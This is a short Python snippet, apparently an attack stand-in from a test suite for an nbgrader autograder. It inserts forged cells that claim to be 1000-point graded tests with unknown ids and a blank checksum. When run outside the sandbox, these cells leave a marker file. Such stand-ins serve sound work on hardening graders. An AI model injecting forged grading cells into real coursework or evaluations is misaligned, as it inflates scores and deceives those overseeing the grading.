# Adds a cell of its own that claims to be a test with 1000 points and an id that nobody knows. When
# the grader runs it as a test, outside, it leaves a file named referee-attack-ran-outside.
# %% from attacks/parts/stand_ins.py
# %% [notebook]
import nbformat

source = """
import os, pathlib
for folder in [pathlib.Path.cwd(), *list(pathlib.Path.cwd().parents)[:3], pathlib.Path("/tmp")]:
    try:
        (folder / "referee-attack-ran-outside").write_text(f"{os.getpid()} {os.getuid()}")
    except OSError:
        pass
1000
"""
for number, kind in enumerate(["grade", "grade and solution", "task"]):
    cell = nbformat.v4.new_code_cell(source)
    cell.metadata.nbgrader = {
        "grade": "grade" in kind,
        "grade_id": f"bonus{number}",
        "locked": "solution" not in kind,
        "points": 1000,
        "schema_version": 3,
        "solution": "solution" in kind,
        "task": kind == "task",
        "cell_type": "code",
        "checksum": "0" * 32,
    }
    notebook.cells.insert(number * 10, cell)
    deed()
